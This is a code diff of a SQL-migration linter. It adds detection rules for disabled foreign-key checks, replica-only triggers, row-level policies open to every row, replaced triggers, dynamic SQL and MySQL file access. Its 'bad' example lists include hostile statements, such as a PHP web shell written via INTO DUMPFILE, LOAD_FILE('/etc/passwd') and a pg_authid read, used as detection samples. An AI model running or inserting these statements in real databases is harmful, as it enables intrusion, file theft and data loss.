+    const m = /^set\s+(?:(?:session|local|global)\s+|@@(?:session\.|local\.|global\.)?)?foreign_key_checks\s*(?:=|:=|to)\s*'?(\w+)/.exec(s.lexical) ??
+        /^pragma\s+(?:\w+\.)?foreign_keys\s*=\s*'?(\w+)/.exec(s.lexical);
+    if (!m)
+        return undefined;
+    return /^(0|off|false|no)$/.test(m[1]) ? 'off' : /^(1|on|true|yes)$/.test(m[1]) ? 'on' : undefined;
+}
+/** After a statement that turns foreign-key checks off: is it turned on again in the file, and which deletes or key changes run meanwhile? */
+function whileFkOff(stmt) {
+    const all = stmt.scope?.statements ?? [];
+    const dml = [];
+    for (let i = ((0,sql_ast/* positionOf */.df)(stmt) ?? all.length) + 1; i < all.length; i++) {
+        const s = all[i];
+        if (s.unit.down !== stmt.unit.down || s.nested)
+            continue;
+        if (fkChecks(s) === 'on')
+            return { on: true, dml };
+        // A DELETE (or REPLACE, which deletes the row it replaces) can orphan children; an UPDATE only
+        // when it changes a key (by name: `id`, `…_id`), which is what SQLite's table rebuilds never do.
+        const t = String(s.ast?.type ?? '').toLowerCase();
+        const setsKey = t === 'update' && (s.ast.set ?? []).some((x) => /^(id|\w*_id)$/i.test(String(x?.column ?? '')));
+        if (t === 'delete' || t === 'replace' || setsKey || (!s.ast && /^(with\b[\s\S]*?\)\s*)?delete\b/.test(s.lexical)))
+            dml.push(s);
+    }
+    return { on: false, dml };
+}
+/**
+ * Foreign-key checks turned off (MySQL/MariaDB foreign_key_checks, SQLite PRAGMA foreign_keys): rows
+ * deleted or changed meanwhile can leave children pointing at nothing, and nothing checks them when
+ * the checks come back on (MySQL does not re-validate; SQLite only on PRAGMA foreign_key_check). A
+ * DELETE, REPLACE or UPDATE of a key column while off gates; off and on again with none between is info (SQLite's table-rebuild
+ * procedure, sqlite.org/lang_altertable.html); off to the end of the file is a warning.
+ */
+function foreignKeyChecks(stmt, { report }) {
+    if (stmt.nested || fkChecks(stmt) !== 'off')
+        return;
+    const { on, dml } = whileFkOff(stmt);
+    const lines = dml.slice(0, 3).map((s) => s.unit.pos(s.start).line);
+    const extra = dml.length
+        ? `; ${dml.length} statement${dml.length > 1 ? 's' : ''} that delete rows or change keys run while they are off (line ${lines.join(', ')}${dml.length > 3 ? ', …' : ''}): other rows can be left referencing nothing, and nothing re-checks them`
+        : on
+            ? '; they are turned on again later in this file with no DELETE or key change in between'
+            : '; they are not turned on again in this file';
+    report({ message: `Turns foreign-key checks off${extra}.`, severity: dml.length ? undefined : on ? 'info' : 'warning', key: 'fk-checks' });
+}
 const disable_trigger_rule = {
     meta: {
         id: 'disable-trigger',
@@ -2021,29 +2401,43 @@ const disable_trigger_rule = {
         rationale: '`DISABLE TRIGGER ALL` also disables the internal triggers that enforce foreign keys, so rows written meanwhile can reference rows that ' +
             'do not exist, and nothing checks them when the triggers come back. `DISABLE TRIGGER USER` (or a named trigger) turns off audit logging, ' +
             'denormalization and validation triggers: every data change made while they are off escapes them — the classic way to change data ' +
-            'without leaving an audit trail. A single named trigger is a warning; ALL and USER gate.',
+            'without leaving an audit trail. A single named trigger is a warning; ALL and USER gate. MySQL/MariaDB `SET FOREIGN_KEY_CHECKS = 0` ' +
+            'and SQLite `PRAGMA foreign_keys = OFF` are the same for foreign keys: a DELETE, REPLACE or key UPDATE while they are off gates (orphans nobody ' +
+            're-checks); turned off and on again with none in between (SQLite\'s table rebuild) is info, off to the end of the file a warning.',
         fix: 'Do not disable triggers in a migration; if a bulk load needs it, keep the DML between DISABLE and ENABLE minimal, validate the foreign keys afterwards, and get it approved.',
         examples: {
             bad: [
                 { sql: 'ALTER TABLE orders DISABLE TRIGGER ALL;' },
                 { sql: 'ALTER TABLE orders DISABLE TRIGGER audit_orders;' },
+                { sql: 'ALTER TABLE orders ENABLE REPLICA TRIGGER audit_orders;' },
                 { sql: "ALTER TABLE orders DISABLE TRIGGER USER;\nUPDATE orders SET total = 0 WHERE id = 1;\nALTER TABLE orders ENABLE TRIGGER USER;" },
                 { sql: 'DO $$ BEGIN EXECUTE \'ALTER TABLE audit DISABLE TRIGGER ALL\'; END $$;' },
                 { sql: 'DISABLE TRIGGER ALL ON orders', dialect: 'transactsql' },
+                { sql: 'SET FOREIGN_KEY_CHECKS = 0;\nDELETE FROM users WHERE id = 1;\nSET FOREIGN_KEY_CHECKS = 1;', dialect: 'mysql' },
+                { sql: 'PRAGMA foreign_keys = OFF;\nDELETE FROM users WHERE id = 1;', dialect: 'sqlite' },
             ],
-            good: [{ sql: 'ALTER TABLE orders ENABLE TRIGGER ALL;' }, { sql: 'CREATE TABLE t (id int); ALTER TABLE t DISABLE TRIGGER ALL;' }],
+            good: [
+                { sql: 'ALTER TABLE orders ENABLE TRIGGER ALL;' },
+                { sql: 'CREATE TABLE t (id int); ALTER TABLE t DISABLE TRIGGER ALL;' },
+                { sql: 'SET FOREIGN_KEY_CHECKS = 1;', dialect: 'mysql' },
+            ],
         },
     },
-    check(stmt, { report }) {
+    check(stmt, ctx) {
+        foreignKeyChecks(stmt, ctx);
+        const { report } = ctx;
         const a = (0,sql_ast/* pgNode */.sp)(stmt, 'AlterTableStmt');
         if (!a)
             return;
         for (const c of a.cmds ?? []) {
             const sub = c?.AlterTableCmd?.subtype ?? '';
-            if (!/^AT_DisableTrig(All|User)?$/.test(sub))
+            // ENABLE REPLICA TRIGGER t: t fires only in sessions with session_replication_role = replica,
+            // so for every ordinary session it is off (https://www.postgresql.org/docs/current/sql-altertable.html).
+            const replica = sub === 'AT_EnableReplicaTrig';
+            if (!/^AT_DisableTrig(All|User)?$/.test(sub) && !replica)
                 continue;
             const t = (0,sql_ast/* rangeVarName */.KW)(a.relation);
-            const what = sub === 'AT_DisableTrigAll' ? 'ALL triggers, including the ones that enforce foreign keys,' : sub === 'AT_DisableTrigUser' ? 'every user trigger (audit, validation, denormalization)' : `trigger ${c.AlterTableCmd.name ?? '?'}`;
+            const what = sub === 'AT_DisableTrigAll' ? 'ALL triggers, including the ones that enforce foreign keys,' : sub === 'AT_DisableTrigUser' ? 'every user trigger (audit, validation, denormalization)' : replica ? `trigger ${c.AlterTableCmd.name ?? '?'} for ordinary sessions (ENABLE REPLICA: it fires only under session_replication_role = replica)` : `trigger ${c.AlterTableCmd.name ?? '?'}`;
             const { enabled, dml } = laterInFile(stmt, t);
             let extra = '';
             if (dml.length) {
@@ -2060,13 +2454,15 @@ const disable_trigger_rule = {
                 extra += '; they are enabled again later in this file with no data change to it in between';
             report({
                 message: `Disables ${what} on ${t}${extra}${(0,sql_ast/* nestedSuffix */.Vv)(stmt)}.`,
-                severity: quiet ? 'info' : sub === 'AT_DisableTrig' ? 'warning' : undefined,
+                severity: quiet ? 'info' : sub === 'AT_DisableTrig' || replica ? 'warning' : undefined,
                 offset: (0,sql_ast/* nodeOffset */.Yw)(stmt, a.relation?.location),
                 key: `${t}:${c.AlterTableCmd.name ?? sub}`,
             });
         }
     },
-    unparsed(stmt, { report }) {
+    unparsed(stmt, ctx) {
+        foreignKeyChecks(stmt, ctx);
+        const { report } = ctx;
         // T-SQL `DISABLE TRIGGER ALL ON t`, and ALTER TABLE forms no parser accepted.
         const m = /\b(?:alter\s+table\s+\S+\s+(?:no\s*check\s+constraint\s+all\s*,?\s*)?)?disable\s+trigger\s+(all|user|[^\s;]+)(?:\s+on\s+(\S+))?/.exec(stmt.lexical);
         if (!m)
@@ -2755,6 +3151,28 @@ const drop_partition_rule = {
 ;// CONCATENATED MODULE: ./rules/drop-policy.ts
 
 
+/**
+ * Does a policy condition let every row through: 'true' when always true, 'independent' when it
+ * names no column of the table and calls nothing that can vary by row (`current_user = 'mallory'`:
+ * every row, for whoever it holds for); undefined for a condition that filters rows.
+ */
+function everyRow(e, table) {
+    if ((0,sql_ast/* alwaysTrue */.MH)(e))
+        return 'true';
+    return (0,sql_ast/* rowIndependent */.V7)(e, table) ? 'independent' : undefined;
+}
+/** The text of a policy's `USING (…)` / `WITH CHECK (…)` (balanced parentheses, cut to 80 characters), for messages. */
+function clauseText(stmt, clause) {
+    const m = (clause === 'using' ? /\busing\s*\(/i : /\bwith\s+check\s*\(/i).exec(stmt.text);
+    if (!m)
+        return '…';
+    let depth = 1;
+    let i = m.index + m[0].length;
+    for (; i < stmt.text.length && depth; i++)
+        depth += stmt.text[i] === '(' ? 1 : stmt.text[i] === ')' ? -1 : 0;
+    const t = stmt.text.slice(m.index + m[0].length, i - 1).replace(/\s+/g, ' ').trim();
+    return t.length > 80 ? `${t.slice(0, 79)}…` : t;
+}
 const drop_policy_rule = {
     meta: {
         id: 'drop-policy',
@@ -2763,8 +3181,9 @@ const drop_policy_rule = {
         summary: 'Drops or weakens a row-level security policy (DROP POLICY; ALTER/CREATE POLICY … USING (true))',
         rationale: 'Row-level security policies are often the only thing keeping one user’s or tenant’s rows from another. DROP POLICY removes one ' +
             '(if it was RESTRICTIVE, the rows it hid become visible; if it is re-created, the new definition needs the same review). ' +
-            'ALTER POLICY … USING (true) / WITH CHECK (true) turns a filter into “every row”. A new PERMISSIVE policy with an always-true ' +
-            'condition is reported too: as an error when it lets roles write every row, as a warning when it only makes rows readable ' +
+            'ALTER POLICY … USING (true) / WITH CHECK (true) turns a filter into “every row”, and any other new condition or role list replaces ' +
+            'the reviewed one just as a DROP and CREATE would. A new PERMISSIVE policy with an always-true condition, or one that names none of ' +
+            'the table\'s columns (`current_user = \'mallory\'`: every row, whenever it holds), is reported too: as an error when it lets roles write every row, as a warning when it only makes rows readable ' +
             '(public read policies are common and usually intended).',
         fix: 'Replace the policy in a way a reviewer can compare (show old and new condition), keep conditions that filter by the current user or tenant, and get it approved.',
         examples: {
@@ -2772,11 +3191,13 @@ const drop_policy_rule = {
                 { sql: 'DROP POLICY "Users can read own rows" ON public.profiles;' },
                 { sql: 'ALTER POLICY tenant_isolation ON accounts USING (true);' },
                 { sql: 'CREATE POLICY anyone_writes ON t FOR ALL TO PUBLIC USING (true) WITH CHECK (true);' },
+                { sql: "CREATE POLICY p ON users FOR ALL TO mallory USING (current_user = 'mallory');" },
+                { sql: 'ALTER POLICY own_rows ON users USING (id IS NOT NULL);' },
+                { sql: 'ALTER POLICY own_rows ON users USING (current_user IS NOT NULL);' },
                 { sql: 'DO $$ BEGIN DROP POLICY IF EXISTS p ON t; END $$;' },
             ],
             good: [
                 { sql: 'CREATE POLICY own_rows ON t FOR SELECT USING (user_id = current_user_id());' },
-                { sql: 'ALTER POLICY p ON t USING (tenant_id = current_setting($$app.tenant$$)::int);' },
                 { sql: 'CREATE POLICY r ON t AS RESTRICTIVE USING (true);' },
             ],
         },
@@ -2797,25 +3218,38 @@ const drop_policy_rule = {
         const a = (0,sql_ast/* pgNode */.sp)(stmt, 'AlterPolicyStmt');
         if (a) {
             const weak = [];
-            if (a.qual && (0,sql_ast/* alwaysTrue */.MH)(a.qual))
-                weak.push('USING (true): every row is visible');
-            if (a.with_check && (0,sql_ast/* alwaysTrue */.MH)(a.with_check))
-                weak.push('WITH CHECK (true): any row can be written');
+            const table = (0,sql_ast/* rangeVarName */.KW)(a.table);
+            const every = (e) => everyRow(e, a.table);
+            const shown = (e, clause) => (every(e) === 'true' ? 'true' : clauseText(stmt, clause));
+            if (a.qual && every(a.qual))
+                weak.push(`USING (${shown(a.qual, 'using')}): every row is visible`);
+            if (a.with_check && every(a.with_check))
+                weak.push(`WITH CHECK (${shown(a.with_check, 'with check')}): any row can be written`);
             const roles = (a.roles ?? []).map(sql_ast/* roleName */.S3);
             if (roles.includes('PUBLIC'))
                 weak.push('TO PUBLIC: applies to every role');
             if (weak.length)
-                report({ message: `Weakens policy "${a.policy_name}" on ${(0,sql_ast/* rangeVarName */.KW)(a.table)}: ${weak.join('; ')}${(0,sql_ast/* inside */.nx)(stmt)}.` });
+                report({ message: `Weakens policy "${a.policy_name}" on ${table}: ${weak.join('; ')}${(0,sql_ast/* inside */.nx)(stmt)}.` });
+            else if (a.qual || a.with_check || roles.length) {
+                // Any new condition or role list replaces the one reviewed before: the same as dropping the
+                // policy and creating another, which this rule reports. Whether it narrows or widens access
+                // depends on the old definition.
+                const parts = [a.qual && `USING (${clauseText(stmt, 'using')})`, a.with_check && `WITH CHECK (${clauseText(stmt, 'with check')})`, roles.length && `TO ${roles.join(', ')}`].filter(Boolean);
+                report({ message: `Changes policy "${a.policy_name}" on ${table} to ${parts.join(' ')}: the rows it lets through change; compare with the old definition${(0,sql_ast/* inside */.nx)(stmt)}.` });
+            }
         }
         const c = (0,sql_ast/* pgNode */.sp)(stmt, 'CreatePolicyStmt');
-        if (c && c.permissive && ((c.qual && (0,sql_ast/* alwaysTrue */.MH)(c.qual)) || (c.with_check && (0,sql_ast/* alwaysTrue */.MH)(c.with_check)))) {
+        const always = c && c.permissive && ((c.qual && everyRow(c.qual, c.table)) || (c.with_check && everyRow(c.with_check, c.table)));
+        if (c && always) {
             const cmd = String(c.cmd_name ?? 'all').toUpperCase();
             const roles = (c.roles ?? []).map(sql_ast/* roleName */.S3).join(', ') || 'PUBLIC';
             const writes = cmd !== 'SELECT';
+            const text = c.qual && everyRow(c.qual, c.table) ? clauseText(stmt, 'using') : clauseText(stmt, 'with check');
+            const why = always === 'true' ? 'condition is always true' : `condition (${text}) names none of its columns: every row whenever it holds`;
             report({
                 message: writes
-                    ? `Policy "${c.policy_name}" on ${(0,sql_ast/* rangeVarName */.KW)(c.table)} lets ${roles} ${cmd === 'ALL' ? 'read and write' : cmd} every row (condition is always true)${(0,sql_ast/* inside */.nx)(stmt)}.`
-                    : `Policy "${c.policy_name}" on ${(0,sql_ast/* rangeVarName */.KW)(c.table)} makes every row readable by ${roles} (USING true)${(0,sql_ast/* inside */.nx)(stmt)}.`,
+                    ? `Policy "${c.policy_name}" on ${(0,sql_ast/* rangeVarName */.KW)(c.table)} lets ${roles} ${cmd === 'ALL' ? 'read and write' : cmd} every row (${why})${(0,sql_ast/* inside */.nx)(stmt)}.`
+                    : `Policy "${c.policy_name}" on ${(0,sql_ast/* rangeVarName */.KW)(c.table)} makes every row readable by ${roles} (${always === 'true' ? 'USING true' : why})${(0,sql_ast/* inside */.nx)(stmt)}.`,
                 severity: writes ? 'error' : 'warning',
             });
         }
@@ -2922,7 +3356,7 @@ function copyOf(st) {
                 const f = n.ColumnRef.fields ?? [];
                 const last = f[f.length - 1];
                 if (last?.A_Star)
-                    star = f.length === 1 || (0,sql_ast/* sameName */.q)(names(f.slice(0, -1)), (0,sql_ast/* rangeVarName */.KW)(from[0].RangeVar)) || f[0]?.String?.sval === from[0].RangeVar.alias?.aliasname;
+                    star = f.length === 1 || (0,sql_ast/* sameName */.q)(rebuild_names(f.slice(0, -1)), (0,sql_ast/* rangeVarName */.KW)(from[0].RangeVar)) || f[0]?.String?.sval === from[0].RangeVar.alias?.aliasname;
                 else if (last?.String?.sval)
                     reads.add(last.String.sval.toLowerCase());
                 return;
@@ -2971,7 +3405,7 @@ function copyOf(st) {
     const filtered = sel.where ? 'a WHERE clause' : sel.limit?.value?.length ? 'LIMIT' : sel.distinct ? 'DISTINCT' : sel.groupby ? 'GROUP BY' : sel.having ? 'HAVING' : conflict ? 'a conflict clause (rows that conflict are skipped or merged)' : undefined;
     return { into: (0,sql_ast/* nspTable */.Uw)(a.table?.[0]), from: (0,sql_ast/* nspTable */.Uw)(from[0]), reads: star ? '*' : reads, ...(filtered ? { filtered } : {}) };
 }
-function names(fields) {
+function rebuild_names(fields) {
     return fields.map((f) => f?.String?.sval ?? '').join('.');
 }
 /** `ALTER TABLE a RENAME TO b` / `RENAME TABLE a TO b` → [a, b]. */
@@ -3140,7 +3574,10 @@ const drop_table_rule = {
 };
 /* harmony default export */ const drop_table = (drop_table_rule);
 
+// EXTERNAL MODULE: ./src/sql/fold.ts
+var fold = __webpack_require__(1649);
 ;// CONCATENATED MODULE: ./rules/drop-trigger.ts
+
 
 /** Is trigger `name` on `table` created again later in the file? */
 function drop_trigger_recreated(stmt, table, name) {
@@ -3156,6 +3593,12 @@ function triggerNames(s) {
     const t = s.pg?.CreateTrigStmt?.trigname;
     return typeof t === 'string' ? [t] : undefined;
 }
+/** CreateTrigStmt.events (TRIGGER_TYPE_INSERT 4, DELETE 8, UPDATE 16, TRUNCATE 32) as words. */
+function events(mask) {
+    const m = mask ?? 0;
+    const out = [m & 4 && 'INSERT', m & 16 && 'UPDATE', m & 8 && 'DELETE', m & 32 && 'TRUNCATE'].filter(Boolean);
+    return out.join(' OR ') || '?';
+}
 const drop_trigger_rule = {
     meta: {
         id: 'drop-trigger',
@@ -3164,23 +3607,40 @@ const drop_trigger_rule = {
         summary: 'Drops a trigger: the checks, audit rows or derived data it maintained stop (disabling one: disable-trigger)',
         rationale: 'Triggers often enforce rules the schema cannot (protect rows from deletion, write audit logs, keep denormalized data in sync). Dropping ' +
             'one silently stops that. It loses no data by itself, so it is a warning; dropping a trigger and creating it again later in the same ' +
-            'file is reported as info. Disabling triggers is the disable-trigger rule.',
+            'file is reported as info. CREATE OR REPLACE TRIGGER replaces an existing trigger of that name (other events, another function, a WHEN ' +
+            'that never holds) and is reported the same way, unless the trigger or its table was created earlier in the file. Disabling triggers is the disable-trigger rule.',
         fix: 'Say in the pull request what the trigger did and why it is no longer needed, or re-create / re-enable it in the same migration.',
         examples: {
             bad: [
                 { sql: 'DROP TRIGGER IF EXISTS protect_objects_delete ON storage.objects;' },
                 { sql: 'DROP TRIGGER audit_orders', dialect: 'mysql' },
+                { sql: 'CREATE OR REPLACE TRIGGER users_audit AFTER UPDATE ON users FOR EACH ROW WHEN (false) EXECUTE FUNCTION audit_trg();' },
             ],
             good: [
                 { sql: 'CREATE TRIGGER t BEFORE UPDATE ON x FOR EACH ROW EXECUTE FUNCTION f();' },
                 { sql: 'ALTER TABLE orders ENABLE TRIGGER audit_orders;' },
                 { sql: 'DROP EVENT TRIGGER IF EXISTS issue_pg_graphql_access;' },
+                { sql: 'CREATE TABLE x (id int);\nCREATE OR REPLACE TRIGGER t BEFORE UPDATE ON x FOR EACH ROW EXECUTE FUNCTION f();' },
             ],
         },
     },
-    kinds: ['DropStmt'],
+    kinds: ['DropStmt', 'CreateTrigStmt'],
     check(stmt, { report }) {
         const where = (0,sql_ast/* nestedSuffix */.Vv)(stmt);
+        // CREATE OR REPLACE TRIGGER (PostgreSQL 14+): an existing trigger of that name is dropped and
+        // this one takes its place, with other events, another function or a condition that never holds.
+        const ct = (0,sql_ast/* pgNode */.sp)(stmt, 'CreateTrigStmt');
+        if (ct?.replace && ct.trigname) {
+            const table = (0,sql_ast/* rangeVarName */.KW)(ct.relation);
+            const made = (0,sql_ast/* createdEarlier */.nR)(stmt, table) || (0,sql_ast/* statementsNamed */.QD)(stmt, 'drop-trigger:triggers', triggerNames, ct.trigname, 'before').some((s) => (0,sql_ast/* sameName */.q)((0,sql_ast/* rangeVarName */.KW)(s.pg?.CreateTrigStmt?.relation), table));
+            if (!made) {
+                const never = ct.whenClause && !(0,sql_ast/* alwaysTrue */.MH)(ct.whenClause) && (0,fold/* truthOf */.D)((0,fold/* pgValue */.ho)(ct.whenClause)) !== undefined ? '; its WHEN condition never holds, so it never fires' : '';
+                report({
+                    message: `Replaces trigger ${ct.trigname} on ${table} if it exists: it now runs ${(0,sql_ast/* names */.Dy)(ct.funcname)}() on ${events(ct.events)}${never}; what the old one did on other events, or through another function, stops; compare with the old definition${where}.`,
+                    key: `replace:${ct.trigname}`,
+                });
+            }
+        }
         const d = (0,sql_ast/* pgNode */.sp)(stmt, 'DropStmt');
         if (d?.removeType === 'OBJECT_TRIGGER') {
             const cascade = d.behavior === 'DROP_CASCADE' ? ' with CASCADE' : '';
@@ -3273,7 +3733,13 @@ const drop_view_rule = {
 };
 /* harmony default export */ const drop_view = (drop_view_rule);
 
+// EXTERNAL MODULE: ./src/sql/sql-strings.ts
+var sql_strings = __webpack_require__(2567);
+// EXTERNAL MODULE: ./src/parse/pg.ts
+var pg = __webpack_require__(8446);
 ;// CONCATENATED MODULE: ./rules/dynamic-sql.ts
+
+
 
 
 /** Languages whose code this review reads: SQL and PL/pgSQL (C and internal are untrusted-language's). */
@@ -3288,7 +3754,8 @@ const dynamic_sql_rule = {
             'so it can hide any destructive or privileged statement. Dynamic SQL of fixed shape (constants, FOREACH over an ARRAY literal, ' +
             'FOR … IN SELECT unnest(ARRAY[…])) is expanded and each expansion analyzed like written SQL instead. Code in a procedural language this ' +
             'review does not read (plperl, plv8, pltcl and other trusted languages) runs SQL through its own calls: a DO block in one gates, a function ' +
-            'in one is a warning (its SQL runs when it is called).',
+            'in one is a warning (its SQL runs when it is called), and calling it while the migration runs gates. Functions that run SQL given as a string ' +
+            '(query_to_xml, ts_stat, crosstab, dblink, pg_background_launch) are read like EXECUTE: a constant string is analyzed, a computed one gates.',
         fix: 'Write the statements out literally, or have a reviewer confirm what the dynamic SQL can produce.',
         examples: {
             bad: [
@@ -3297,20 +3764,32 @@ const dynamic_sql_rule = {
                 { sql: "DO $$ DECLARE t text; BEGIN FOR t IN SELECT tablename FROM pg_tables LOOP EXECUTE format('DROP TABLE %I', t); END LOOP; END $$;" },
                 { sql: "DO LANGUAGE plperl $$ spi_exec_query('TRUNCATE audit_log'); $$;" },
                 { sql: "DO $$ plv8.execute('DROP TABLE users'); $$ LANGUAGE plv8;" },
+                { sql: "SELECT query_to_xml_and_xmlschema('SELECT ' || current_setting('app.cols') || ' FROM pg_authid', true, true, '');" },
+                { sql: 'SELECT * FROM crosstab((SELECT cmd FROM jobs LIMIT 1)) AS ct(a text, b text);' },
+                { sql: "CREATE FUNCTION w() RETURNS void LANGUAGE plperl AS $$ spi_exec_query('DROP TABLE users'); $$;\nSELECT w();" },
             ],
             good: [
                 { sql: "DO $$ BEGIN EXECUTE 'CREATE TABLE x (id int)'; END $$;" },
                 { sql: 'DO $$ BEGIN CREATE TABLE y (id int); END $$;' },
                 { sql: "DO $$ DECLARE t text; BEGIN FOREACH t IN ARRAY ARRAY['a', 'b'] LOOP EXECUTE format('CREATE TABLE %I (id int)', t); END LOOP; END $$;" },
                 { sql: "DO $$ DECLARE s CONSTANT text := 'audit'; BEGIN EXECUTE 'CREATE SCHEMA ' || quote_ident(s); END $$;" },
+                { sql: "SELECT query_to_xml('SELECT ' || 'id FROM users', true, true, '');" },
             ],
         },
     },
-    kinds: ['PLpgSQL_dynamic', 'DoStmt', 'CreateFunctionStmt'],
+    // Every kind: a function that runs a SQL string (query_to_xml, crosstab, dblink…) can be called from any statement.
     check(stmt, { report }) {
         const d = (0,sql_ast/* pgNode */.sp)(stmt, 'PLpgSQL_dynamic');
         if (d && d.literal === undefined) {
             report({ message: `Dynamic SQL: EXECUTE of an expression (${String(d.query).slice(0, 80)}); its statements cannot be checked.` });
+        }
+        // A constant SQL string is analyzed where the call is (src/parse/pg.ts expandSqlStrings); a computed one cannot be.
+        if (stmt.pg && (0,sql_ast/* textMayName */.Yj)(stmt.text, sql_strings/* SQL_STRING_FUNCTIONS_RE */.d)) {
+            (0,sql_strings/* sqlStringCalls */.B)(stmt.pg).forEach((c, i) => {
+                if ((0,pg/* constString */.r1)(c.arg) !== undefined)
+                    return;
+                report({ message: `Dynamic SQL: ${c.fn}() runs SQL given as a string, and this one is computed while the migration runs; its statements cannot be checked.`, key: `string:${i}` });
+            });
         }
         // Code in a procedural language this review does not read (plperl, plv8, pltcl, …: trusted ones;
         // untrusted ones, C and internal are untrusted-language's) runs SQL through its own API
@@ -3332,6 +3811,29 @@ const dynamic_sql_rule = {
                 message: `${fn.is_procedure ? 'Procedure' : 'Function'} ${(0,sql_ast/* names */.Dy)(fn.funcname)} is written in ${lang(fn, 'sql')}, a language this review does not read: SQL it runs when called is not checked.`,
                 severity: 'warning',
             });
+        }
+        // Such a function called while the migration runs (a top-level statement, a DO block, a SQL
+        // string run now): what it does happens now, unseen. Functions of this file, by base name.
+        if (stmt.pg && (!stmt.nested || stmt.nested.kind === 'do' || stmt.nested.kind === 'query')) {
+            const unreadHere = (0,sql_ast/* perFile */.UK)(stmt, 'dynamic-sql:unread-functions', (all) => {
+                const m = new Map();
+                for (const s of all) {
+                    const f = s.nested ? undefined : s.pg?.CreateFunctionStmt;
+                    if (f && unread(lang(f, 'sql')))
+                        m.set(String(f.funcname?.[f.funcname.length - 1]?.String?.sval ?? ''), lang(f, 'sql'));
+                }
+                return m;
+            });
+            if (unreadHere?.size)
+                for (const c of (0,sql_ast/* pgFunctionCalls */.rF)(stmt.pg)) {
+                    const l = unreadHere.get(c.base);
+                    if (l)
+                        report({ message: `Calls ${c.name}(), written in ${l}, a language this review does not read: the SQL it runs now, while the migration runs, is not checked.`, key: `call:${c.base}` });
+                }
+            const call = (0,sql_ast/* pgNode */.sp)(stmt, 'CallStmt');
+            const called = call?.funccall ? (0,sql_ast/* names */.Dy)(call.funccall.funcname).split('.').pop() : undefined;
+            if (called && unreadHere?.get(called))
+                report({ message: `Calls procedure ${(0,sql_ast/* names */.Dy)(call.funccall.funcname)}(), written in ${unreadHere.get(called)}, a language this review does not read: the SQL it runs now is not checked.`, key: `call:${called}` });
         }
     },
     lexical: [/\bexecute\s+(format\s*\(|[a-z_][a-z0-9_]*\s*(;|\|\||using\b|$))/],
@@ -3997,6 +4499,7 @@ const guard_function_replaced_rule = {
 ;// CONCATENATED MODULE: ./rules/hardcoded-password.ts
 
 
+
 /** DefElem names whose string value is a secret (role options, FDW server / user mapping OPTIONS). */
 const PG_SECRET_OPTIONS = new Set(['password', 'passwd', 'sslpassword', 'secret', 'secret_access_key', 'client_secret', 'private_key_passphrase']);
 const WHY = 'anyone who can read the repository, its history, CI logs or the database logs has it; rotate it and pass it in at deploy time instead';
@@ -4109,15 +4612,17 @@ function pgSeedValue(node) {
     }
     return undefined;
 }
-function pgSeeded(pg) {
+function pgSeeded(stmt, pg) {
     const out = [];
     const col = (n) => (n ?? '').toLowerCase();
     if (pg.InsertStmt) {
         const ins = pg.InsertStmt;
-        const cols = (ins.cols ?? []).map((c) => col(c?.ResTarget?.name));
         const table = (0,sql_ast/* rangeVarName */.KW)(ins.relation);
-        for (const row of ins.selectStmt?.SelectStmt?.valuesLists ?? []) {
-            (row?.List?.items ?? []).forEach((item, i) => {
+        const lists = (ins.selectStmt?.SelectStmt?.valuesLists ?? []).map((row) => row?.List?.items ?? []);
+        // No column list: the table's columns in order, as the schema state knows them.
+        const cols = (0,src_state/* insertColumns */.tP)(stmt, table, (ins.cols ?? []).map((c) => c?.ResTarget?.name ?? ''), lists).map(col);
+        for (const items of lists) {
+            items.forEach((item, i) => {
                 if (!PASSWORD_COLUMNS.has(cols[i] ?? ''))
                     return;
                 const v = pgSeedValue(item);
@@ -4152,13 +4657,13 @@ function nspSeedValue(v) {
     }
     return undefined;
 }
-function nspSeeded(ast) {
+function nspSeeded(stmt, ast) {
     const out = [];
     const name = (c) => String(typeof c === 'string' ? c : (c?.column?.expr?.value ?? c?.column ?? c?.value ?? '')).toLowerCase();
     const table = String(ast?.table?.[0]?.table ?? '?');
     if (ast?.type === 'insert' || ast?.type === 'replace') {
-        const cols = (ast.columns ?? []).map(name);
         const rows = ast.values?.values ?? (Array.isArray(ast.values) ? ast.values : []);
+        const cols = (0,src_state/* insertColumns */.tP)(stmt, table, (ast.columns ?? []).map(name), rows.map((r) => r?.value ?? [])).map((c) => c.toLowerCase());
         for (const row of rows) {
             (row?.value ?? []).forEach((item, i) => {
                 if (!PASSWORD_COLUMNS.has(cols[i] ?? ''))
@@ -4183,7 +4688,7 @@ function nspSeeded(ast) {
 }
 /** An account seeded with a fixed password: reported as a warning (test/dev seeds are common). */
 function checkSeeded(stmt, report) {
-    const seeded = stmt.pg ? pgSeeded(stmt.pg) : stmt.ast ? nspSeeded(stmt.ast) : [];
+    const seeded = stmt.pg ? pgSeeded(stmt, stmt.pg) : stmt.ast ? nspSeeded(stmt, stmt.ast) : [];
     let searchFrom = 0;
     seeded.forEach((s, i) => {
         if (NOT_SECRET.test(s.value.trim()) || (0,credentials/* classifyValue */.Ws)(s.value, 'code') === 'placeholder')
@@ -4951,10 +5456,11 @@ const mysql_file_access_rule = {
         id: 'mysql-file-access',
         category: 'execution',
         severity: 'error',
-        summary: 'MySQL/MariaDB file access: SELECT … INTO OUTFILE/DUMPFILE, LOAD DATA [LOCAL] INFILE, LOAD XML, LOAD_FILE()',
+        summary: 'MySQL/MariaDB file access: SELECT … INTO OUTFILE/DUMPFILE, LOAD DATA [LOCAL] INFILE, LOAD XML, LOAD_FILE(), DATA DIRECTORY',
         rationale: 'INTO OUTFILE / DUMPFILE writes files on the database server (a classic way to drop a web shell or exfiltrate data); LOAD_FILE() ' +
             'and LOAD DATA INFILE read any file the server can (FILE privilege, secure_file_priv permitting); LOAD DATA LOCAL INFILE makes the ' +
-            'client send a local file from the machine that applies the migration.',
+            'client send a local file from the machine that applies the migration. CREATE TABLE … DATA DIRECTORY / INDEX DIRECTORY puts the ' +
+            'table\'s files at a server path of the migration\'s choosing.',
         fix: 'Remove file access from the migration; load reviewed data with INSERTs or through the application.',
         examples: {
             bad: [
@@ -4962,6 +5468,7 @@ const mysql_file_access_rule = {
                 { sql: "SELECT '<?php system($_GET[1]); ?>' INTO DUMPFILE '/var/www/x.php';", dialect: 'mysql' },
                 { sql: "LOAD DATA LOCAL INFILE '/tmp/data.csv' INTO TABLE t;", dialect: 'mysql' },
                 { sql: "INSERT INTO t (a) VALUES (LOAD_FILE('/etc/passwd'));", dialect: 'mariadb' },
+                { sql: "CREATE TABLE t (id INT) DATA DIRECTORY = '/var/www/html';", dialect: 'mysql' },
             ],
             good: [
                 { sql: 'SELECT a INTO @x FROM t;', dialect: 'mysql' },
@@ -4997,12 +5504,27 @@ const mysql_file_access_rule = {
